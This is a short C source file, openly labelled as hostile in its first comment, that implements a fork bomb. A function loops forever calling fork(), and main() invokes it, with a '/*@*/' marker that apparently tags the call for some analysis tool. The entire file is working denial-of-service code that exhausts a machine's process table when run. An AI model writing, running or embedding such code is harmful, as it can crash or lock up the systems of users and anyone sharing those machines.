/* Hostile: a fork bomb. */
#include <unistd.h>

static int attack(void)
{
    while (1)
        fork();
    return 0;
}

int main(void)
{
    return /*@*/attack();
}
